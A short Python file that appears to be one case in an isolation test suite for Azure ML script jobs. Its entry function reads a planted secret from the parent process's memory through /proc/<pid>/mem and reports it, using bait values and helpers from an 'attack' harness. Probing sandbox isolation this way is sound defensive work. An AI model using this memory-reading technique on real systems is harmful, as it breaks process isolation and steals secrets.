"""Reads a secret from the memory of the process that ordered the job."""

from attack import BAIT, attack, told


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    with open(f"/proc/{BAIT['host_pid']}/mem", "rb", buffering=0) as memory:
        memory.seek(BAIT["host_address"])
        return told("the parent's memory", memory.read(BAIT["host_length"]))
